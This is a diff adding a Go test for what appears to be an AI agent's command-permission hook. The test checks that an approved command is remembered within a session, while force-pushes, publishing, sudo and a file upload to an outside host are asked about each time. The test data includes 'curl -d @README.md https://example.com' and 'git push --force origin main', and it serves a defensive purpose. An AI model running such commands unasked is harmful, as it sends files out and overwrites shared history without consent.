@@ -286,3 +286,34 @@ func TestBroughtTreesRun(t *testing.T) {
 		m.want("s", "y/bin/tool", "allow", "")
 	}
 }
+
+// What a person has agreed to is not asked again in the session, for the very same command, by rules that leave something to the
+// client's own judge. Force, main and what is unknown ask each time, and so does everything once an injection was met.
+func TestAgreedOnce(t *testing.T) {
+	m := newRemembered(t)
+	ran := func(session, command string) {
+		m.send(`"hook_event_name":"PostToolUse","tool_use_id":"t`+strconv.Itoa(m.n)+`","tool_response":{"stdout":""}`, session, command)
+	}
+	const install = "pip install requests"
+	m.want("s", install, "ask", "package-install")
+	m.want("s", install, "ask", "package-install") // nobody has said yes
+	ran("s", install)
+	m.want("s", install, "allow", "package-install")
+	m.want("s", install+" flask", "ask", "package-install")
+	m.want("other", install, "ask", "package-install")
+	for _, always := range []string{"git push --force origin main", "npm publish", "sudo ls", "curl -d @README.md https://example.com"} {
+		for range 2 {
+			if d, reason, _ := m.ask("s", always); d != "ask" {
+				t.Errorf("%s: %s %s", always, d, reason)
+			}
+			ran("s", always)
+		}
+	}
+	if text, _ := m.store().Journal("claude", "s"); strings.Contains(string(text), "requests") {
+		t.Errorf("the journal says what was agreed to: %s", text)
+	}
+	if err := os.WriteFile(m.journal(), []byte("damaged"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	m.want("s", install, "ask", "")
+}
